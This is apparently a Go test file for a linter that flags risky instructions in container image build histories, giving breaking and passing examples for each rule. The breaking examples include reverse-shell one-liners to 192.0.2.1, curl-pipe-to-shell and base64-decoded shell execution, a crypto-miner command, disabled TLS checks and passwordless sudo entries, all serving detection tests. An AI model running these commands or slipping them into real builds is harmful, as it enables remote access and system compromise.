package buildcmd

import (
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/onceover/onceover/internal/image"
)

// Values that look like secrets are made here, so that none stands in the
// repository.
var (
	pw    = "s3" + "cr3t" + "Pw9"
	awsID = "AK" + "IA" + strings.Repeat("Q7", 8)
	ghTok = "gh" + "p_" + strings.Repeat("a1B2", 9)
)

// examples has for each rule instructions that break it and some that do not.
// "I:" begins an image configuration in place of a history.
var examples = map[string]struct{ bad, good []string }{
	"BC-SECRET-ENV": {
		[]string{"ENV DB_PASSWORD=" + pw, "/bin/sh -c #(nop)  ENV API_KEY=" + pw, "ENV mysqlRootPassword " + pw, "ENV A=b SECRET_KEY=\"" + pw + "\" # buildkit"},
		[]string{"ENV DB_PASSWORD_FILE=/run/secrets/db", "ENV PASSWORD=$PW", "ENV GPG_KEY=" + strings.Repeat("A0", 20), "ENV PWD=/srv/app", "ENV TOKEN=", "ENV TOKEN_TTL=3600", "ENV PATH=/usr/bin"},
	},
	"BC-SECRET-ARG": {
		[]string{"ARG NPM_TOKEN=" + pw, "|1 NPM_TOKEN=" + pw + " /bin/sh -c npm ci", "RUN |2 A=b c GIT_PASSWORD=" + pw + " /bin/bash -o pipefail -c make # buildkit"},
		[]string{"ARG NPM_TOKEN", "|1 VERSION=1.2 /bin/sh -c make", "RUN |1 TOKEN= /bin/sh -c make"},
	},
	"BC-SECRET-LABEL":  {[]string{"LABEL com.example.api-key=" + pw}, []string{"LABEL maintainer=me", "LABEL secret.version=2"}},
	"BC-SECRET-RUN":    {[]string{"RUN export DB_PASSWORD=" + pw + " && make", "RUN DB_PASSWORD=" + pw + " ./setup"}, []string{"RUN export DB_PASSWORD=$(cat /run/secrets/db) && make", "RUN PASSWORD=$PW ./setup"}},
	"BC-SECRET-TOKEN":  {[]string{"RUN aws configure set x " + awsID, "ENV FOO=" + ghTok, "|1 X=" + ghTok + " /bin/sh -c make"}, []string{"RUN echo AKIA", "ENV FOO=ghp_short"}},
	"BC-SECRET-URL":    {[]string{"RUN git clone https://bob:" + pw + "@git.example.com/x.git", "ENV DATABASE_URL=postgres://app:" + pw + "@db/app"}, []string{"RUN curl https://example.com:8443/a@b", "RUN git clone https://$USER:$PW@git.example.com/x"}},
	"BC-SECRET-OPTION": {[]string{"RUN curl -u bob:" + pw + " https://example.com/x -o x", "RUN mysql -uroot -p" + pw + " -e 'select 1'", "RUN curl -H 'Authorization: Bearer " + pw + "' https://x.example", "RUN docker login -u bob -p " + pw}, []string{"RUN curl -u $U:$P https://example.com", "RUN mysql -p -e 'select 1'", "RUN keytool -import -storepass changeit -file ca.crt", "RUN docker run -p 80:80 x"}},
	"BC-SECRET-FILE":   {[]string{"COPY id_rsa /root/.ssh/", "ADD .npmrc /app/ # buildkit", "/bin/sh -c #(nop) COPY file:0a1b in /root/.ssh/id_rsa ", "COPY --chown=1:1 deploy/server-key.pem /etc/ssl/", "COPY .docker/config.json /x/"}, []string{"COPY id_rsa.pub /x/", "COPY .env.example /app/", "COPY server.crt keyboard.go /x/"}},
	"BC-SECRET-DELETED": {
		[]string{"RUN rm -f /root/.ssh/id_rsa", "RUN make && rm -rf ~/.aws"},
		[]string{"RUN echo \"$K\" > /root/.netrc && git clone https://x && rm /root/.netrc", "RUN rm -rf /tmp/*"},
	},
	"BC-COPY-ALL":    {[]string{"COPY . .", "ADD . /app # buildkit", "COPY --chown=node:node . /srv"}, []string{"COPY --from=build . /app", "COPY src/ /app/", "COPY package.json ."}},
	"BC-COPY-GIT":    {[]string{"COPY .git /app/.git", "ADD .git/ /x/"}, []string{"COPY .gitignore /app/"}},
	"BC-SSH-KEYGEN":  {[]string{"RUN ssh-keygen -A", "RUN ssh-keygen -q -t rsa -N '' -f /root/.ssh/id_rsa"}, []string{"RUN ssh-keygen -R example.com", "RUN echo ssh-keygen"}},
	"BC-HISTORY-OFF": {[]string{"RUN unset HISTFILE; make", "RUN history -c", "RUN export HISTFILE=/dev/null"}, []string{"RUN unset X", "RUN git log --history"}},

	"BC-PIPE-SHELL": {
		[]string{"RUN curl -fsSL https://x.example/i.sh | sh", "RUN wget -qO- https://x.example | sudo -E bash -", "RUN bash -c \"$(curl -fsSL https://x.example)\"", "RUN bash <(curl -s https://x.example)", "RUN curl https://x.example | tee /x | python3 -", "RUN set -eux; (curl https://x.example || exit 1) | bash", "RUN eval \"$(wget -qO- https://x.example)\"", "|1 A=b /bin/bash -o pipefail -c curl https://x.example|sh", "RUN sh -c 'curl https://x.example | sh'"},
		[]string{"RUN curl https://x.example | python3 -m json.tool", "RUN curl https://x.example -o i.sh && sha256sum -c i.sum && sh i.sh", "RUN curl https://x.example | tar xz", "RUN echo 'curl https://x.example | sh'", "RUN curl https://x.example | python3 -c 'import sys'"},
	},
	"BC-ENCODED-SHELL": {[]string{"RUN echo ZWNobyBoaQ== | base64 -d | sh", "RUN bash -c \"$(echo aGk= | base64 -d)\"", "RUN cat x | openssl enc -d -aes-256-cbc | bash"}, []string{"RUN echo aGk= | base64 -d > x", "RUN base64 x | sh-something"}},
	"BC-ADD-REMOTE":    {[]string{"ADD https://x.example/a.tar.gz /opt/", "/bin/sh -c #(nop) ADD http://x.example/a /opt/ "}, []string{"ADD --checksum=sha256:00 https://x.example/a /opt/", "ADD rootfs.tar.xz /", "COPY https /x"}},
	"BC-DOWNLOAD-HTTP": {[]string{"RUN curl -O http://x.example/a.tgz", "RUN wget ftp://x.example/a"}, []string{"RUN curl -f http://localhost:8080/health", "RUN curl https://x.example", "RUN echo http://x.example"}},
	"BC-GIT-PLAIN":     {[]string{"RUN git clone http://x.example/a.git", "RUN git clone --depth 1 git://x.example/a"}, []string{"RUN git clone https://x.example/a.git", "RUN git clone git@x.example:a.git"}},
	"BC-TLS-OFF": {
		[]string{"RUN curl -fsSLk https://x.example -o x", "RUN curl --insecure https://x.example", "RUN wget --no-check-certificate https://x.example", "RUN git -c http.sslVerify=false clone https://x.example/a", "RUN git config --global http.sslVerify false", "RUN pip install --trusted-host x.example a", "RUN npm config set strict-ssl false", "RUN GIT_SSL_NO_VERIFY=1 git clone https://x.example/a", "RUN apt-get -o Acquire::https::Verify-Peer=false update", "RUN export NODE_TLS_REJECT_UNAUTHORIZED=0 && npm ci", "RUN conda config --set ssl_verify false"},
		[]string{"RUN curl -okernel https://x.example", "RUN curl -fsSL https://x.example -H 'k: v'", "RUN wget https://x.example", "RUN pip install a", "RUN git config http.sslVerify true"},
	},
	"BC-TLS-OFF-ENV":   {[]string{"ENV NODE_TLS_REJECT_UNAUTHORIZED=0", "ENV GOSUMDB=off", "ENV A=1 GIT_SSL_NO_VERIFY=true"}, []string{"ENV NODE_TLS_REJECT_UNAUTHORIZED=1", "ENV GIT_SSL_NO_VERIFY=0"}},
	"BC-REVERSE-SHELL": {[]string{"RUN bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "RUN nc -e /bin/sh 192.0.2.1 4444", "RUN socat TCP:192.0.2.1:1 EXEC:/bin/sh"}, []string{"RUN nc -z localhost 80", "RUN ls /dev/", "RUN timeout 9 bash -c 'until </dev/tcp/db/5432; do sleep 1; done'"}},
	"BC-MINER":         {[]string{"RUN ./xmr" + "ig -o stratum" + "+tcp://pool.example:3333", "CMD [\"/usr/bin/xmr" + "ig\"]"}, []string{"RUN make miner", "LABEL x=xmr" + "ig"}},

	"BC-PKG-UNSIGNED":   {[]string{"RUN apt-get install -y --allow-unauthenticated a", "RUN apk add --allow-untrusted a.apk", "RUN yum install -y --nogpgcheck a", "RUN echo 'deb [trusted=yes] https://x.example /' > /etc/apt/sources.list.d/x.list", "RUN printf '[x]\\ngpgcheck=0\\n' > /etc/yum.repos.d/x.repo", "RUN rpm -i --nosignature a.rpm", "RUN <<EOF\ncat > /etc/yum.repos.d/x.repo <<E\ngpgcheck = 0\nE\nEOF"}, []string{"RUN apt-get install -y a", "RUN apk add --no-cache a", "RUN printf 'gpgcheck=1' > x"}},
	"BC-PKG-KEY":        {[]string{"RUN curl https://x.example | apt-key add -", "RUN apt-key adv --recv-keys 00"}, []string{"RUN gpg --import x", "RUN apt-key list"}},
	"BC-PKG-REPO-HTTP":  {[]string{"RUN pip install -i http://x.example/simple a", "RUN npm ci --registry=http://x.example", "RUN echo 'deb http://x.example/debian bookworm main' >> /etc/apt/sources.list", "RUN yum-config-manager --add-repo http://x.example/x.repo", "RUN apk add -X http://x.example/v3 a"}, []string{"RUN echo 'deb http://deb.debian.org/debian bookworm main' > /etc/apt/sources.list", "RUN pip install -i https://x.example/simple a", "RUN npm ci"}},
	"BC-PKG-UPGRADE":    {[]string{"RUN apt-get update && apt-get -y upgrade", "RUN yum -y update", "RUN apk -U upgrade", "RUN apt-get dist-upgrade -y"}, []string{"RUN apt-get update", "RUN yum -y update openssl", "RUN apk upgrade openssl", "RUN pip install --upgrade pip"}},
	"BC-PKG-CACHE":      {[]string{"RUN apt-get update && apt-get install -y a", "RUN yum install -y a", "RUN apk update && apk add a", "RUN zypper install -y a"}, []string{"RUN apt-get update && apt-get install -y a && rm -rf /var/lib/apt/lists/*", "RUN dnf install -y a && dnf clean all", "RUN apk add --no-cache a", "RUN --mount=type=cache,target=/var/cache/apt apt-get update && apt-get install -y a"}},
	"BC-PKG-RECOMMENDS": {[]string{"RUN apt-get install -y a"}, []string{"RUN apt-get install -y --no-install-recommends a", "RUN apt-get -o APT::Install-Recommends=0 install a", "RUN apt-get update"}},
	"BC-PIP-CACHE":      {[]string{"RUN pip install a", "RUN python3 -m pip install a"}, []string{"RUN pip install --no-cache-dir a", "RUN PIP_NO_CACHE_DIR=1 pip install a", "RUN --mount=type=cache,target=/root/.cache pip install a", "RUN pip install a && rm -rf /root/.cache", "RUN pip list"}},
	"BC-PKG-LATEST":     {[]string{"RUN npm install -g npm@latest", "RUN go install example.com/x@latest", "RUN pip install -U requests"}, []string{"RUN npm install -g npm@10.1.0", "RUN pip install -U requests==2.1", "RUN pip install -U -r requirements.txt", "RUN go install example.com/x@v1.2.3"}},
	"BC-FROM-LATEST":    {[]string{`I:{"config":{"Labels":{"org.opencontainers.image.base.name":"docker.io/library/alpine:latest"}}}`, `I:{"history":[{"comment":"FROM registry.example:5000/base"}]}`}, []string{`I:{"config":{"Labels":{"org.opencontainers.image.base.name":"alpine:3.20"}}}`, `I:{"history":[{"comment":"FROM a@sha256:00"}]}`, `I:{}`}},
	"BC-PKG-SSHD":       {[]string{"RUN apt-get install -y openssh-server", "RUN apk add --no-cache dropbear", "RUN dnf -y install openssh-server"}, []string{"RUN apt-get install -y openssh-client", "RUN echo openssh-server"}},
	"BC-PKG-LEGACY":     {[]string{"RUN yum install -y telnet", "RUN apt-get install -y --no-install-recommends curl rsh-client=1.2"}, []string{"RUN apt-get install -y curl", "RUN telnet localhost"}},
	"BC-PKG-ATTACK":     {[]string{"RUN apk add nmap", "RUN apt-get install -y netcat-openbsd"}, []string{"RUN apk add nginx"}},
	"BC-PKG-SUDO":       {[]string{"RUN apt-get update && apt-get install -y sudo", "RUN apk add sudo"}, []string{"RUN apt-get install -y a", "RUN apt-get remove sudo"}},
	"BC-SUDO-USED":      {[]string{"RUN sudo make install", "RUN sudo -u app make"}, []string{"RUN make sudo"}},
	"BC-SUDO-NOPASSWD":  {[]string{"RUN echo 'app ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "RUN sed -i 's/ALL$/NOPASSWD: ALL/' /etc/sudoers"}, []string{"RUN echo 'app ALL=(ALL) ALL' >> /etc/sudoers"}},
	"BC-CHMOD-WORLD":    {[]string{"RUN chmod 777 /srv", "RUN chmod -R 0666 /etc/app", "RUN chmod -R a+w /srv", "RUN chmod ugo+rwx /srv", "RUN mkdir -m 777 /srv/x", "RUN umask 000 && make"}, []string{"RUN chmod 755 /srv", "RUN chmod 1777 /srv/tmp", "RUN chmod u+w,go-w /srv", "RUN chmod +x /srv/777", "RUN chmod 777 /tmp", "RUN chmod g=u /etc/passwd"}},
	"BC-SETUID":         {[]string{"RUN chmod u+s /usr/bin/x", "RUN chmod 4755 /usr/bin/x", "RUN chmod 2755 /x", "RUN install -m 4755 x /usr/bin/"}, []string{"RUN chmod 0755 /x", "RUN chmod u-s /x", "RUN chmod +t /x", "RUN chmod 1777 /x"}},
	"BC-SETCAP":         {[]string{"RUN setcap cap_sys_admin+ep /x", "RUN setcap 'cap_net_admin,cap_net_raw+eip' /x"}, []string{"RUN setcap cap_net_bind_service=+ep /x"}},
	"BC-PRIVILEGED":     {[]string{"RUN --security=insecure make", "RUN docker run --privileged x", "RUN --network=host make"}, []string{"RUN --network=none make", "RUN docker run x"}},
	"BC-KERNEL":         {[]string{"RUN modprobe overlay", "RUN sysctl -w net.ipv4.ip_forward=1", "RUN mknod /dev/x c 1 3"}, []string{"RUN sysctl net.ipv4.ip_forward", "RUN mount"}},
	"BC-PASSWORD-SET":   {[]string{"RUN echo root:" + pw + " | chpasswd", "RUN useradd -m -p " + pw + " app", "RUN echo " + pw + " | passwd --stdin root", "RUN chpasswd <<< root:" + pw}, []string{"RUN useradd -m app", "RUN passwd -l root", "RUN useradd -p '*' app"}},
	"BC-PASSWORD-EMPTY": {[]string{"RUN passwd -d root", "RUN usermod -p '' root"}, []string{"RUN passwd -l root", "RUN adduser --disabled-password app"}},
	"BC-USER-UID0":      {[]string{"RUN useradd -o -u 0 toor"}, []string{"RUN useradd -u 1000 app", "RUN useradd -u 10 app"}},
	"BC-USER-GROUP":     {[]string{"RUN usermod -aG sudo app", "RUN useradd -m -G users,docker app", "RUN adduser app wheel", "RUN addgroup app root", "RUN gpasswd -a app wheel"}, []string{"RUN usermod -aG www-data app", "RUN adduser -D app", "RUN useradd -g app app"}},
	"BC-SSH-CONFIG":     {[]string{"RUN echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", "RUN sed -i 's/#PermitRootLogin prohibit-password/PermitRootLogin yes/' /etc/ssh/sshd_config", "RUN sed -ri 's/^#?PermitRootLogin\\s+.*/PermitRootLogin yes/' /etc/ssh/sshd_config"}, []string{"RUN echo 'PermitRootLogin no' >> /etc/ssh/sshd_config", "RUN sed -i 's/PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config"}},
	"BC-SSH-HOSTKEY":    {[]string{"RUN ssh -o StrictHostKeyChecking=no git@x", "RUN printf 'Host *\\n StrictHostKeyChecking no\\n' > ~/.ssh/config", "RUN ssh-keyscan github.com >> ~/.ssh/known_hosts", "RUN GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git clone x"}, []string{"RUN ssh -o StrictHostKeyChecking=yes git@x"}},
	"BC-PROTECTION-OFF": {[]string{"RUN setenforce 0", "RUN sed -i 's/SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", "RUN ufw disable"}, []string{"RUN ufw enable", "RUN systemctl disable cups"}},
	"BC-USER-ROOT":      {[]string{`I:{"config":{}}`, `I:{"config":{"User":"0:0"}}`, `I:{"config":{"User":"root"}}`}, []string{`I:{"config":{"User":"app"}}`, `I:{"config":{"User":"1000:0"}}`}},
	"BC-HEALTHCHECK":    {[]string{`I:{"config":{"Cmd":["x"]}}`, `I:{"config":{"Cmd":["x"],"Healthcheck":{"Test":["NONE"]}}}`}, []string{`I:{"config":{"Cmd":["x"],"Healthcheck":{"Test":["CMD","y"]}}}`, `I:{"config":{}}`}},
	"BC-EXPOSE-SSH":     {[]string{"EXPOSE 22", "EXPOSE map[22/tcp:{}]", "/bin/sh -c #(nop)  EXPOSE 22/tcp", "EXPOSE [22/tcp 80/tcp]", `I:{"config":{"ExposedPorts":{"22/tcp":{}}}}`}, []string{"EXPOSE 8022", "EXPOSE 80 443"}},
	"BC-EXPOSE-PLAIN":   {[]string{"EXPOSE 23/tcp", "EXPOSE 80 21"}, []string{"EXPOSE 8080", "EXPOSE 230"}},
	"BC-EXPOSE-ADMIN":   {[]string{"EXPOSE 2375", "EXPOSE 9229/tcp"}, []string{"EXPOSE 23750"}},
	"BC-VOLUME-HOST":    {[]string{"VOLUME /var/run/docker.sock", "VOLUME [/etc]", "VOLUME [\"/data\",\"/\"]"}, []string{"VOLUME /data", "VOLUME [/var/lib/mysql]"}},
	"BC-START-SSHD":     {[]string{`I:{"config":{"Cmd":["/usr/sbin/sshd","-D"]}}`, `I:{"config":{"Entrypoint":["sh","-c","service x start; sshd"]}}`}, []string{`I:{"config":{"Cmd":["nginx"]}}`, `I:{"config":{"Cmd":["/opt/sshd-exporter"]}}`}},
	"BC-START-DEBUG":    {[]string{`I:{"config":{"Cmd":["java","-agentlib:jdwp=transport=dt_socket,address=*:5005","-jar","a.jar"]}}`, `I:{"config":{"Cmd":["node","--inspect=0.0.0.0:9229","a.js"]}}`, `I:{"config":{"Env":["FLASK_DEBUG=1"]}}`}, []string{`I:{"config":{"Cmd":["node","a.js"],"Env":["FLASK_DEBUG=0"]}}`}},
	"BC-ENV-PRELOAD":    {[]string{"ENV LD_PRELOAD=/usr/lib/x.so", "RUN echo /x.so > /etc/ld.so.preload"}, []string{"ENV LD_PRELOAD=", "ENV LD_LIBRARY_PATH=/x"}},
	"BC-ENV-PATH":       {[]string{"ENV PATH=.:/usr/bin", "ENV PATH=/usr/bin:/tmp/bin", "ENV PATH=/usr/bin:"}, []string{"ENV PATH=/usr/local/bin:/usr/bin:/bin"}},
}

func imageOf(t *testing.T, example string) Image {
	t.Helper()
	if raw, ok := strings.CutPrefix(example, "I:"); ok {
		img, err := ParseImage([]byte(raw))
		if err != nil {
			t.Fatal(err)
		}
		return img
	}
	return Image{User: "app", History: []image.History{{CreatedBy: example}}}
}

func TestRules(t *testing.T) {
	if n := len(Rules()); n < 30 {
		t.Errorf("%d rules", n)
	}
	for _, r := range Rules() {
		t.Run(r.ID, func(t *testing.T) {
			ex, ok := examples[r.ID]
			if !ok || len(ex.bad) == 0 || len(ex.good) == 0 {
				t.Fatal("a rule needs an instruction that breaks it and one that does not")
			}
			for _, bad := range ex.bad {
				res := Check(imageOf(t, bad))
				if !slices.ContainsFunc(res.Findings, func(f Finding) bool { return f.RuleID == r.ID }) {
					t.Errorf("not found in %s", bad)
				}
				for _, f := range res.Findings {
					for _, secret := range []string{pw, awsID, ghTok} {
						if strings.Contains(f.Instruction, secret) {
							t.Errorf("%s shows the secret of %s: %s", f.RuleID, bad, f.Instruction)
						}
					}
					if f.Instruction == "" || utf8.RuneCountInString(f.Instruction) > maxShown {
						t.Errorf("%s shows %q", f.RuleID, f.Instruction)
					}
				}
				if res.Unparsed > 0 {
					t.Errorf("not parsed: %s", bad)
				}
			}
			for _, good := range ex.good {
				for _, f := range Check(imageOf(t, good)).Findings {
					if f.RuleID == r.ID {
						t.Errorf("found in %s: %s", good, f.Instruction)
					}
				}
			}
		})
	}
	for id := range examples {
		if RuleByID(id) == nil {
			t.Errorf("example of a rule that does not exist: %s", id)
		}
	}
}

func TestRuleTexts(t *testing.T) {
	seen := map[string]bool{}
	for _, r := range Rules() {
		n := 0
		for _, has := range []bool{r.command != nil, r.step != nil, r.image != nil} {
			if has {
				n++
			}
		}
		if n != 1 {
			t.Errorf("%s has %d checks", r.ID, n)
		}
		if len(r.ID) > 64 || !strings.HasPrefix(r.ID, "BC-") || seen[r.ID] || seen[r.Title] {
			t.Errorf("%s: bad or double id or title", r.ID)
		}
		seen[r.ID], seen[r.Title] = true, true
		if SeverityRank(r.Severity) > 4 || r.Title == "" || !strings.HasSuffix(r.Description, ".") || !strings.HasSuffix(r.Remediation, ".") {
			t.Errorf("%s lacks a text", r.ID)
		}
	}
}
